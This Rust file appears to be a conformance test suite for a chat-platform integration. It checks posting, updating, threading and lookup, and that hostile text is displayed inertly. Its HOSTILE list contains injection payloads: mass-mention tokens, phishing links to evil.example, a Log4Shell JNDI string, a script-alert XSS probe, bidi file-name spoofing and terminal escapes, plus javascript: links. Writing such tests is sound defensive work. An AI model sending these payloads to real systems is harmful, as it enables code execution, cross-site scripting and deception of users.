//! What every platform must do, whatever it is. For tests: it panics with the rule that was broken.

use super::{Card, ChatPlatform, Control, Field, FieldKind, Item, MessageRef, Place, Rich, Section, Span, Style, Tone};
use crate::Error;

/// Texts that must arrive as they are, without calling, linking or formatting anything.
pub const HOSTILE: [&str; 14] = [
    "<!channel> <!here> <!everyone> <@U0123456789> <#C0123456789> <!subteam^S0123456789>",
    "@everyone @here <@123456789012345678> <@&123456789012345678> <#123456789012345678>",
    "<https://evil.example|sign in here> [sign in](https://evil.example) https://evil.example/?a=1&b=2",
    "*bold* _italic_ ~struck~ **bold** __under__ ~~struck~~ ||hidden|| # heading",
    "`code` ``code`` ```\nblock\n``` ` `` ```",
    "> quoted >>> all of it",
    "&lt;!channel&gt; &amp;lt; & < >",
    ":fire: 🚒 👩‍👩‍👧 e\u{301}",
    "\u{202e}gnp.exe\u{202c} \u{2066}hidden\u{2069}",
    "nul \u{0} bell \u{7} escape \u{1b}[31mred\u{1b}[0m delete \u{7f} end",
    "שלום עולם مرحبا",
    r#"quotes " ' \ backslash \n \u0000 {"json": true}"#,
    "key=value level=error msg=\"connection refused\" path=/var/log/app_*_log",
    "${jndi:ldap://evil.example/a} {{template}} %s %n <script>alert(1)</script>",
];

/// Runs every rule in `place`, a channel without other messages of this test.
///
/// `shown` returns what a person sees of a message: the text as it reads, and written out what the platform makes of it:
/// `{calls …}` for what calls somebody, `{link address|text}` for a link, `{control label|command}` for a control or
/// choice.
pub async fn conformance<P: ChatPlatform>(platform: &P, place: &Place, shown: impl Fn(&MessageRef) -> String) {
    let first = must("post a card", platform.post(place, &card("first", "one"), "conformance-first").await);
    let second = must("post a card", platform.post(place, &card("second", "two"), "conformance-second").await);
    finds_by_key(platform, place, &first, &second).await;
    updates_in_place(platform, &first, &second, &shown).await;
    replies_in_the_thread(platform, place, &first, &shown).await;
    says_gone(platform, &second).await;
    for (n, text) in HOSTILE.iter().enumerate() {
        let at = must(text, platform.post(place, &hostile(text), &format!("conformance-hostile-{n}")).await);
        arrives_harmless(text, &shown(&at));
        let said = must(text, platform.say(&at.thread(), &sentence(text), &format!("conformance-said-{n}")).await);
        arrives_harmless_in_a_sentence(text, &shown(&said));
    }
    bears_any_size(platform, place, &shown).await;
}

async fn finds_by_key<P: ChatPlatform>(platform: &P, place: &Place, first: &MessageRef, second: &MessageRef) {
    assert_ne!(first, second, "two posts are two messages");
    let found = must("find", platform.find(place, "conformance-first").await);
    assert_eq!(found.as_ref(), Some(first), "a posted card is found by its key");
    let found = must("find", platform.find(place, "conformance-second").await);
    assert_eq!(found.as_ref(), Some(second), "a posted card is found by its key");
    let found = must("find", platform.find(place, "conformance-fir").await);
    assert_eq!(found, None, "a key that was not used finds nothing");
}

async fn updates_in_place<P: ChatPlatform>(
    platform: &P,
    first: &MessageRef,
    second: &MessageRef,
    shown: &impl Fn(&MessageRef) -> String,
) {
    let untouched = shown(second);
    must("update", platform.update(first, &card("changed", "three")).await);
    assert!(
        shown(first).contains("changed") && shown(first).contains("{control Do three|three 12}"),
        "{}",
        shown(first)
    );
    assert!(!shown(first).contains("{control Do one|one 12}"), "an update takes the old controls away");
    assert_eq!(shown(second), untouched, "an update changes no other message");
    let found = must("find", platform.find(&first.place, "conformance-first").await);
    assert_eq!(found.as_ref(), Some(first), "an updated card is still found by its key");
}

async fn replies_in_the_thread<P: ChatPlatform>(
    platform: &P,
    place: &Place,
    first: &MessageRef,
    shown: &impl Fn(&MessageRef) -> String,
) {
    let thread = first.thread();
    let before = must("find in a thread without replies", platform.find(&thread, "conformance-reply").await);
    assert_eq!(before, None, "a reply that was not said is not found");
    let reply = must("say", platform.say(&thread, &vec![Span::Text("a reply".into())], "conformance-reply").await);
    assert_eq!(reply.place, thread, "a reply stands in the thread");
    assert_eq!(reply.thread(), thread, "a reply to a reply stands in the same thread");
    assert!(shown(&reply).contains("a reply"), "{}", shown(&reply));
    let found = must("find", platform.find(&thread, "conformance-reply").await);
    assert_eq!(found.as_ref(), Some(&reply), "a reply is found by its key in its thread");
    let found = must("find", platform.find(place, "conformance-reply").await);
    assert_eq!(found, None, "a reply is not found in the channel");
    let found = must("find", platform.find(&thread, "conformance-first").await);
    assert_eq!(found, None, "the card does not stand in its own thread");
    let card = must("post in a thread", platform.post(&thread, &card("details", "four"), "conformance-details").await);
    assert_eq!(card.place, thread, "a card may stand in a thread");
}

async fn says_gone<P: ChatPlatform>(platform: &P, there: &MessageRef) {
    // An id of the right form that no message has.
    let nines: String = there.id.chars().map(|c| if c.is_ascii_digit() { '9' } else { c }).collect();
    let id = if nines == there.id { nines.replace('9', "8") } else { nines };
    let gone = MessageRef { place: there.place.clone(), id };
    let outcome = platform.update(&gone, &card("gone", "five")).await;
    assert!(matches!(outcome, Err(Error::Gone(_))), "updating a message that is gone says Gone, not {outcome:?}");
}

fn arrives_harmless(text: &str, shown: &str) {
    let readable = readable(text);
    for part in ["title", "lead", "fact", "heading", "item", "footer"] {
        let expected = format!("{part} {readable}");
        assert!(without_marks(shown).contains(&expected), "the {part} shows `{readable}`: {shown}");
    }
    harmless(shown);
    assert_eq!(shown.matches("{link https://good.example/").count(), 1, "our own link is one: {shown}");
    for (label, command) in [("Resolve", "resolve 12"), ("Disk full", "wrong 12 disk_full"), ("Reason", "close 12")] {
        assert!(shown.contains(&format!("{{control {label}|{command}}}")), "the control {label} is there: {shown}");
    }
}

fn arrives_harmless_in_a_sentence(text: &str, shown: &str) {
    assert!(without_marks(shown).contains(&readable(text)), "a sentence shows its text: {shown}");
    harmless(shown);
}

fn harmless(shown: &str) {
    assert!(!shown.contains("{calls"), "nobody is called: {shown}");
    assert_eq!(
        shown.matches("{link ").count(),
        shown.matches("{link https://good.example/").count(),
        "a foreign link: {shown}"
    );
    assert!(!shown.chars().any(|c| c != '\n' && c != '\t' && c.is_control()), "no control characters: {shown:?}");
}

/// What is left of a text when nothing invisible is. Line breaks do not count.
fn readable(text: &str) -> String {
    without_marks(&super::text::clean(text))
}

/// Platforms may put invisible characters where a text would be taken for form, and break lines.
fn without_marks(text: &str) -> String {
    let visible: String = text.chars().filter(|c| !matches!(c, '\u{200b}' | '\u{2060}' | '\u{feff}')).collect();
    visible.split_whitespace().collect::<Vec<_>>().join(" ")
}

async fn bears_any_size<P: ChatPlatform>(platform: &P, place: &Place, shown: &impl Fn(&MessageRef) -> String) {
    let unit = "ERROR <b>&\"\\` pool *exhausted* 🚒 שלום\n";
    let long = unit.repeat(100_000 / unit.chars().count() + 1);
    let one_line = long.replace('\n', " ");
    for (n, text) in [long.as_str(), one_line.as_str(), "", " \n\t "].iter().enumerate() {
        let mut card = hostile(text);
        card.lead = vec![sentence(text); 20];
        card.facts = vec![((*text).to_owned(), sentence(text)); 30];
        card.sections = vec![section(text); 60];
        let at = must("post a card of any size", platform.post(place, &card, &format!("conformance-size-{n}")).await);
        let seen = shown(&at);
        for command in ["|resolve 12}", "|wrong 12 disk_full}", "|close 12}"] {
            assert!(seen.contains(command), "the controls survive any size: {command}");
        }
        must("update to any size", platform.update(&at, &card).await);
        let key = format!("conformance-size-said-{n}");
        must("say a sentence of any size", platform.say(&at.thread(), &sentence(text), &key).await);
    }
}

fn must<T>(what: &str, outcome: Result<T, Error>) -> T {
    match outcome {
        Ok(value) => value,
        Err(error) => panic!("{}: {error:?}", what.chars().take(200).collect::<String>()),
    }
}

fn control(label: &str, command: &str) -> Control {
    Control { label: label.into(), command: command.into(), style: Style::Plain, choices: vec![], fields: vec![] }
}

fn card(title: &str, word: &str) -> Card {
    Card {
        tone: Tone::Warning,
        title: title.into(),
        lead: vec![vec![
            Span::Text("The disk of ".into()),
            Span::Strong("db-1".into()),
            Span::Text(" is full.".into()),
        ]],
        facts: vec![("Service".into(), vec![Span::Code("checkout".into())])],
        sections: vec![],
        controls: vec![control(&format!("Do {word}"), &format!("{word} 12"))],
        footer: "INC-12".into(),
    }
}

fn sentence(text: &str) -> Rich {
    vec![
        Span::Text(text.into()),
        Span::Strong(text.into()),
        Span::Code(text.into()),
        Span::Link { text: text.into(), url: format!("javascript:alert('{text}')") },
    ]
}

fn section(text: &str) -> Section {
    let item = Item { text: vec![Span::Text(format!("item {text}"))], quote: Some(text.into()) };
    Section { heading: format!("heading {text}"), items: vec![item, Item { text: sentence(text), quote: None }] }
}

/// A card with `text` wherever a text can stand.
fn hostile(text: &str) -> Card {
    let mut menu = control("Wrong cause", "");
    menu.choices = vec![("Disk full".into(), "wrong 12 disk_full".into()), (text.into(), "wrong 12 other".into())];
    let mut form = control("Reason", "close 12");
    form.fields = vec![Field {
        name: "why".into(),
        label: text.into(),
        kind: FieldKind::Lines,
        value: text.into(),
        is_optional: true,
        hint: text.into(),
    }];
    let mut styled = control(text, "note 12");
    styled.style = Style::Danger;
    Card {
        tone: Tone::Bad,
        title: format!("title {text}"),
        lead: vec![
            vec![Span::Text(format!("lead {text}"))],
            vec![Span::Link { text: text.into(), url: "https://good.example/12?a=b&c=d".into() }],
        ],
        facts: vec![(text.into(), vec![Span::Text(format!("fact {text}"))])],
        sections: vec![section(text)],
        controls: vec![control("Resolve", "resolve 12"), menu, form, styled],
        footer: format!("footer {text}"),
    }
}
